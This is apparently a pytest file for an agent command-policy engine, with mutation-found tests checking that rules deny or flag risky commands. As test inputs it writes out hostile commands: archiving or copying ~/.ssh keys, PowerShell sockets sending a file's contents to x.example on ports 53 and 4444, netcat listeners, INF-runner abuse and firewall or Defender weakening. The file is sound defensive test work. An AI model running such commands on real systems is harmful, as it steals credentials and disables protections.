"""Behaviour a mutation sample of this stop's new readings (S-RULE-155 … S-RULE-164) found unpinned.

The sample (seed 20261214) drew 160 mutants from the functions added or changed for those rules; 46 lived. Each
test below is a command an agent could send, or a function's own result, with what Windows, tar, find, PsExec,
netcat or Defender do. Equivalent mutants are listed in `scripts/mutation_equivalent.txt` with the reason.
"""

from __future__ import annotations

import pytest

from policy.rules.effects_linux import _find_exec, _on_found, _tar_sources
from policy.rules.effects_security import defender_wmi
from policy.rules.place_table import FILE_PLACES
from policy.rules.places import GATEWAY_PLACE, could_be_named
from policy.rules.shell.ops import Effect, EffectKind
from tests._requirements import requirement
from tests.policy.verdicts import effect_rows, ps

K = EffectKind
DENY = ("credential-access", "deny")


# ---------------------------------------------------------------------------------------
# tar (S-RULE-162)


@requirement("S-RULE-162")
@pytest.mark.parametrize(
    "command",
    [
        "tar -c C:\\Users\\me\\.ssh",  # the source right after a cluster with no value (to the output)
        "tar --update --file C:\\t\\a.tar C:\\Users\\me\\.ssh",  # --update adds files as --create does
        "tar --append --file C:\\t\\a.tar C:\\Users\\me\\.ssh",
    ],
)
def test_what_any_tar_write_mode_archives_is_read_whole(command: str) -> None:
    """S-RULE-162: `-c`, `--update` and `--append` all read what they archive."""
    assert ps(command) == DENY


@requirement("S-RULE-162")
def test_tar_long_options_keep_the_whole_value_after_the_equals_sign() -> None:
    """S-RULE-162: `--file=C:\\t\\a=b.tar` names `a=b.tar`; only the first `=` separates name and value."""
    rows = effect_rows("tar --create --file=C:\\t\\a=b.tar C:\\src")
    assert (K.WRITE, "C:\\t\\a=b.tar", "tar -c") in rows


@requirement("S-RULE-162")
@pytest.mark.parametrize(
    ("words", "expected"),
    [
        (["--create", "--directory=/mnt/c/Users/me", "--file=/tmp/x.tar", ".ssh"], ["/mnt/c/Users/me/.ssh"]),
        (["--create", "--directory=/mnt/c/a=b", "x"], ["/mnt/c/a=b/x"]),
        (["--create", "--file", "/tmp/x.tar", "--directory", "/mnt/c/Users/me", ".ssh"], ["/mnt/c/Users/me/.ssh"]),
        (["-czf", "/tmp/x.tgz", "-C", "/mnt/c/Users/me", ".ssh"], ["/mnt/c/Users/me/.ssh"]),
        (["czf", "/tmp/x.tgz", "/mnt/c/src"], ["/mnt/c/src"]),
        (["-c", "--verbose", "dir"], ["dir"]),  # an option is no source
        (["-cf"], []),  # `-f` with nothing after it
        (["-c", "-C"], []),  # `-C` with nothing after it
        (["-cf", "/tmp/x.tar", "notes"], ["notes"]),  # the archive is no folder: `notes` stays where it is
        (["-xf", "/tmp/x.tar", "a"], []),  # not a write mode
    ],
)
def test_linux_tar_sources(words: list[str], expected: list[str]) -> None:
    """S-RULE-162: each source joined to the folder `-C`/`--directory` named before it, the archive left out."""
    assert _tar_sources(list(words)) == expected


# ---------------------------------------------------------------------------------------
# find -exec (S-RULE-162)


@requirement("S-RULE-162")
def test_find_exec_with_no_command_is_a_run_of_nothing_known() -> None:
    """S-RULE-162: `-exec ;` names no command: an EXECUTE of nothing known, once."""
    found = _find_exec(["/mnt/c/x", "-exec", ";"])
    assert found == [Effect(K.EXECUTE, None, "wsl find -exec")]


@requirement("S-RULE-162")
def test_find_exec_reads_its_roots_once_per_action() -> None:
    """S-RULE-162: the starting folders are the words before the expression, each judged once per `-exec`."""
    found = _find_exec(["/mnt/c/Users/me", "-name", "id_rsa", "-exec", "cat", "{}", ";"])
    assert found == [
        Effect(K.READ, "c:\\Users\\me", "wsl cat (find -exec)", extra=(("recursive", "true"), ("named", "id_rsa")))
    ]
    two = _find_exec(["/mnt/c/a", "-exec", "cat", "{}", ";", "-exec", "rm", "{}", ";"])
    assert [(e.kind, e.target) for e in two] == [(K.READ, "c:\\a"), (K.DELETE_RECURSIVE, "c:\\a")]


@requirement("S-RULE-162")
def test_a_write_on_each_found_file_writes_every_file_of_the_tree() -> None:
    """S-RULE-162: `-exec truncate -s 0 {}` rewrites every file: marked `every_file`, with the command named."""
    stand_in = "c:\\docs\\*"
    written = _on_found(Effect(K.WRITE, stand_in, "wsl truncate"), stand_in, "c:\\docs", None)
    assert written == Effect(
        K.WRITE, "c:\\docs", "wsl truncate (find -exec)", extra=(("recursive", "true"), ("every_file", "true"))
    )
    other = Effect(K.EXECUTE, stand_in, "wsl x")
    assert _on_found(other, stand_in, "c:\\docs", None) == other  # neither read, write nor delete: as it was
    read = _on_found(Effect(K.READ, stand_in, "wsl cat"), stand_in, "c:\\docs", None)
    assert read.extra == (("recursive", "true"),)  # no `-name`: every file


# ---------------------------------------------------------------------------------------
# PsExec, INF runners (S-RULE-156, S-RULE-157)


@requirement("S-RULE-156")
def test_psexec_with_only_options_runs_nothing() -> None:
    """S-RULE-156: `psexec -s -d` names no command: nothing to judge, and no fault."""
    assert ps("psexec -s -d") is None


@requirement("S-RULE-157")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cmstp /s C:\\t\\x.inf", ("dynamic-command", "ask")),
        ("cmstp /s C:\\t\\X.INF", ("dynamic-command", "ask")),
        ('cmstp /s "C:\\t\\x.Inf"', ("dynamic-command", "ask")),
        ("cmstp /s C:\\t\\x.txt", None),
        ("InfDefaultInstall.exe C:\\t\\x.info", None),
    ],
)
def test_an_inf_file_is_named_whatever_its_case(command: str, expected: object) -> None:
    """S-RULE-157: Windows names are case-insensitive: `.INF` is an INF file; `.info` is not."""
    assert ps(command) == expected


@requirement("S-RULE-157")
def test_pnputil_add_driver_without_a_file_is_still_a_driver_install() -> None:
    """S-RULE-157: the INF not named (the word missing) is not known, and no fault."""
    assert effect_rows("pnputil /add-driver") == [
        (K.PERSISTENCE, None, "pnputil /add-driver (a driver loads with Windows)")
    ]


# ---------------------------------------------------------------------------------------
# netcat, sockets, Defender, firewall (S-RULE-158, S-RULE-160)


@requirement("S-RULE-158")
@pytest.mark.parametrize("command", ["ncat --verbose x.example 80", "nc --help", "ncat --keep-open -l 8080"])
def test_a_long_option_with_an_e_is_no_exec(command: str) -> None:
    """S-RULE-158: only a short cluster holds `-e`; `--verbose` is a long option."""
    assert ps(command) is None


@requirement("S-RULE-158")
@pytest.mark.parametrize(
    "command",
    [
        "$b = Get-Content C:\\t\\s.txt; $u = [Net.Sockets.UdpClient]::new(); $u.Send($b, $b.Length, 'x.example', 53)",
        "$b = Get-Content C:\\t\\s.txt; $c = [Net.Sockets.TcpClient]::new(); $c.Connect('x.example', 4444)",
    ],
)
def test_a_socket_made_by_its_constructor_is_a_sender(command: str) -> None:
    """S-RULE-158: `::new()` without a host still makes a socket the script writes to."""
    assert ps(command) == ("upload-file", "ask")


@requirement("S-RULE-160")
def test_defender_wmi_settings_not_known_are_defender_weakening() -> None:
    """S-RULE-160: what is weakened is Defender, named so (the judge's `disable-defender` row keys on it)."""
    found = defender_wmi("Set", None, "Invoke-CimMethod MSFT_MpPreference Set")
    assert [(e.kind, e.detail, dict(e.extra)) for e in found] == [
        (K.SECURITY_WEAKENING, "defender", {"command": "Invoke-CimMethod MSFT_MpPreference Set"})
    ]
    assert defender_wmi("Get", None, "x") == ()


@requirement("S-RULE-160")
@pytest.mark.parametrize(
    ("program", "expected"),
    [
        ("C:\\Tools\\lsassX", None),  # a name that only ends like a protected one
        ("'C:\\Windows\\System32\\lsass.exe'", ("disable-defender", "deny")),
        ("XC:\\Tools\\x.exe", None),
    ],
)
def test_a_firewall_rule_names_the_program_it_blocks_exactly(program: str, expected: object) -> None:
    """S-RULE-160: quotes around the program are dropped, nothing else."""
    command = f"New-NetFirewallRule -DisplayName x -Direction Outbound -Program {program} -Action Block"
    assert ps(command) == expected


# ---------------------------------------------------------------------------------------
# Listings and names (S-RULE-155)


@requirement("S-RULE-155")
@pytest.mark.parametrize(
    "command",
    [
        "Get-ChildItem -LiteralPath C:\\Users\\me\\.ssh | Copy-Item -Destination C:\\t",
        "Get-ChildItem C:\\Users\\me\\.ssh | Get-Content",
        "gci ~\\.ssh | Move-Item -Destination C:\\t",
    ],
)
def test_a_listing_of_a_store_folder_piped_to_a_reader_reads_its_items(command: str) -> None:
    """S-RULE-155: the listing hands on the folder's items, and a key is one of them."""
    assert ps(command) == DENY


@requirement("S-RULE-155")
def test_a_place_outside_the_file_table_counts_for_any_name() -> None:
    """S-RULE-155: the gateway's own place has no names in the table: any file may be its."""
    assert could_be_named(GATEWAY_PLACE, "notes.txt")
    tree = next(e.place for e in FILE_PLACES if e.place.id == "credential-manager")
    assert could_be_named(tree, "*") and not could_be_named(tree, "notes.txt")
